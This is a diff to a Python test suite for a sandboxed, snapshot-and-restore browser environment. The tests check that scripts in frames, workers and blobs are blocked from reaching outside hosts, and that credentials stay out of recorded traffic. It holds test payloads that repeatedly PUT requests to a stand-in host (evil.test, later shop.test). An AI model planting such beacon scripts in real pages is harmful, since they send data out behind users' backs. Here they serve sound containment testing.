@@ -3,7 +3,10 @@
 from __future__ import annotations
 
 import asyncio
+import base64
 import hashlib
+import shutil
+import subprocess
 from collections.abc import AsyncIterator, Callable, Iterator
 from pathlib import Path
 from urllib.parse import quote
@@ -152,30 +155,25 @@ async def test_no_way_leads_to_a_forbidden_host_and_the_attempt_is_recorded(worl
     assert "GET /text" not in fresh.asked
 
 
-ASKING = "setInterval(() => fetch('http://evil.test/text?of=%s', {method: 'PUT'}).catch(() => 0), 100)"
+ASKING = "setInterval(() => fetch('http://shop.test/text?of=%s', {method: 'PUT'}).catch(() => 0), 700)"
 LIVELY = f"""<p>Here<iframe srcdoc="<script>{ASKING % "frame"}</script>"></iframe><script>{ASKING % "page"}
     window.one = new Worker('/script?run=' + encodeURIComponent(`{ASKING % "worker"}`))
+    new SharedWorker('/script?run=' + encodeURIComponent(`{ASKING % "shared"}`))
     window.two = new Worker(window.URL.createObjectURL(new Blob([`{ASKING % "blob"}`])))</script>"""
 
 
-async def test_what_runs_in_a_restored_branch_is_judged_before_it_reaches_anything(worlds: ForkingWorlds, fresh: Site) -> None:
+async def test_what_runs_in_a_restored_branch_is_judged_from_its_first_request_on(worlds: ForkingWorlds, fresh: Site) -> None:
     fresh.pages["/"] = LIVELY
     async with worlds.open(speculative=True) as world:
         await world.reset(TASK)
-        await until(lambda: not world.obstacle)
-        await world.restore(await world.snapshot())
+        for _ in range(2):
+            await until(lambda: not world.obstacle)
+            await world.restore(await world.snapshot())
         found: set[str] = set()
         async with asyncio.timeout(20):
-            while len(found) < 4:
+            while len(found) < 5:
                 found |= {url.partition("of=")[2] for _, url in blocked((await do(world, "wait")).effects)}
-    assert found == {"frame", "page", "worker", "blob"} and "PUT /text" not in fresh.asked
-
-
-async def test_no_snapshot_is_taken_while_a_worker_runs_that_could_not_be_judged_again(world: ForkingEnvironment, fresh: Site) -> None:
-    fresh.pages["/"] = "<script>window.one = new SharedWorker('/script?run=1')</script>"
-    await world.reset(TASK)
-    with pytest.raises(EnvironmentError_, match="no snapshot now: a shared worker runs"):
-        await world.snapshot()
+    assert found == {"frame", "page", "worker", "blob", "shared"} and "PUT /text" not in fresh.asked
 
 
 async def test_a_service_worker_does_not_come_between(world: ForkingEnvironment, fresh: Site) -> None:
@@ -321,7 +319,8 @@ async def test_a_start_that_is_never_answered_is_an_error_with_the_way_out(impat
 
 
 LOGIN = """<p>-</p><input aria-label=user><input type=password aria-label=pass><button onclick="const [user, pass] =
-    [...document.querySelectorAll('input')].map(each => each.value); fetch('/size?user=' + user, {method: 'POST', body: 'password=' + pass});
+    [...document.querySelectorAll('input')].map(each => each.value);
+    fetch('/size?user=' + user, {method: 'POST', body: 'password=' + pass});
     document.querySelector('p').textContent = 'Hello ' + user + ' ' + pass">Log in</button>"""
 
 
@@ -369,3 +368,35 @@ async def test_recorded_traffic_answers_where_the_site_is_gone_and_has_no_creden
             if mode == "replay":
                 assert [effect.detail for effect in (await do(world, 'goto "/text"')).effects] == ["not in the recorded traffic"]
     assert "hunter2" not in (tmp_path / "traffic.jsonl").read_text() and "sid=yes" not in (tmp_path / "traffic.jsonl").read_text()
+
+
+@pytest.fixture
+def certificate(tmp_path: Path) -> tuple[Path, str]:
+    """One for shop.test with its key, signed by nobody; and what to trust it by."""
+    if shutil.which("openssl") is None:
+        pytest.skip("there is no openssl: apt-get install openssl")
+    file = tmp_path / "shop.pem"
+    command = ["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "2", "-subj", "/CN=shop.test"]
+    subprocess.run(
+        [*command, "-addext", "subjectAltName=DNS:shop.test", "-keyout", file, "-out", tmp_path / "cert.pem"],
+        check=True,
+        capture_output=True,
+    )
+    key = subprocess.run(["openssl", "pkey", "-in", file, "-pubout", "-outform", "der"], check=True, capture_output=True).stdout
+    file.write_bytes(file.read_bytes() + (tmp_path / "cert.pem").read_bytes())
+    return file, base64.b64encode(hashlib.sha256(key).digest()).decode()
+
+
+async def test_a_site_with_tls_is_reached_and_its_sockets_are_seen(executable: str, site: Site, certificate: tuple[Path, str]) -> None:
+    file, key = certificate
+    with serving(file) as secure:
+        secure.pages["/"] = SOCKET
+        outside = Outside(hosts={"shop.test": f"127.0.0.1:{secure.port}"}, trusted=(key,))
+        async with forking(CONFIG, PageSetup(), outside=outside) as worlds, worlds.open(speculative=False) as world:
+            await world.reset(msgspec.structs.replace(TASK, start="https://shop.test/"))
+            await shown(world, "number 1")
+            assert world.severed == "1 WebSocket to the outside"
+        strict = msgspec.structs.replace(outside, trusted=())
+        async with forking(CONFIG, PageSetup(), outside=strict) as worlds, worlds.open(speculative=False) as world:
+            with pytest.raises(EnvironmentError_, match="ERR_CERT_AUTHORITY_INVALID"):
+                await world.reset(msgspec.structs.replace(TASK, start="https://shop.test/"))
